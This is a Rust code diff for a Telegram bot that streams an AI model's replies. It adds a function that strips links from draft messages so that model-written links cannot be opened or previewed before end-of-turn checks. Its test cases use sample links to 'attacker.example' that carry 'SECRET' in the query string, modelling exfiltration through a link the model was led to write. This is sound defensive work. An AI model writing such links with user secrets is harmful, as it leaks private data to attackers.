@@ -5,7 +5,9 @@
 //! Invariants (tested on every prefix of real answers):
 //! - a draft is valid Telegram HTML (`super::html::validate`) and never empty;
 //! - it has at most `limit` visible characters: a long answer shows its last chunk (the
-//!   earlier ones are complete).
+//!   earlier ones are complete);
+//! - it holds no link: a link is its text alone (a draft is shown before the turn's link
+//!   checks, in every round of a turn).
 //! - [`settled_chunks`] are the leading chunks of the final reply that no continuation of the
 //!   text can change (tested against the final reply of every prefix of long answers): they
 //!   may be sent as messages while the rest is still being written.
@@ -44,14 +46,37 @@ pub fn complete(partial: &str) -> String {
     text
 }
 
-/// The draft to show for the answer so far, if there is anything to show.
+/// The draft to show for the answer so far, if there is anything to show. Its links are plain
+/// text (see [`without_links`]).
 pub fn render_draft(partial: &str, limit: usize) -> Option<String> {
     let chunks = render_reply(&complete(partial), limit);
     let last = chunks.into_iter().last()?;
-    match html::validate(&last.html) {
-        Ok(_) => Some(last.html),
+    let html = without_links(&last.html);
+    match html::validate(&html) {
+        Ok(_) => Some(html),
         Err(_) => Some(super::markdown::escape(&last.plain)),
     }
+}
+
+/// Rendered HTML with every link reduced to its text: `<a href="…">text</a>` → `text`. A draft
+/// goes out before the turn's end-of-turn checks (previews off for links no person posted), in
+/// any round, after a fetch or a search too; its links are never clickable or previewed. (The
+/// renderer escapes text, so `<a` starts only its own tags.)
+pub fn without_links(html: &str) -> String {
+    let mut out = String::with_capacity(html.len());
+    let mut rest = html;
+    while let Some(at) = rest.find("<a") {
+        let after = &rest[at + 2..];
+        if !after.starts_with([' ', '>']) {
+            out.push_str(&rest[..at + 2]);
+            rest = after;
+            continue;
+        }
+        out.push_str(&rest[..at]);
+        rest = after.find('>').map_or("", |end| &after[end + 1..]);
+    }
+    out.push_str(rest);
+    out.replace("</a>", "")
 }
 
 /// The leading chunks of the final reply (`render_reply` of the sanitised answer) that are
@@ -210,6 +235,25 @@ mod tests {
         assert_eq!(render_draft("Hello **wor", 4096).unwrap(), "Hello <b>wor</b>");
         assert_eq!(render_draft("Run `ls -", 4096).unwrap(), "Run <code>ls -</code>");
         assert_eq!(render_draft("Hello **", 4096).unwrap(), "Hello");
+    }
+
+    /// Issue 35 item 10: a draft goes out before the end-of-turn checks (previews off for
+    /// links no person posted), in every round, after a fetch or a search too: its links are
+    /// plain text, never `<a href>`, so the link the model wrote cannot be opened or
+    /// previewed from a draft.
+    #[test]
+    fn links_in_a_draft_are_plain_text() {
+        for text in [
+            "See [the docs](https://attacker.example/?q=SECRET) now",
+            "<https://attacker.example/?q=SECRET>",
+            "mention [me](tg://user?id=1)",
+            "**bold [x](https://attacker.example/b)**",
+        ] {
+            let d = render_draft(text, 4096).unwrap();
+            assert!(!d.contains("<a") && !d.contains("href"), "{text:?} → {d:?}");
+            assert!(html::validate(&d).is_ok(), "{d}");
+        }
+        assert_eq!(render_draft("See [the docs](https://attacker.example/?q=SECRET) now", 4096).unwrap(), "See the docs now");
     }
 
     #[test]
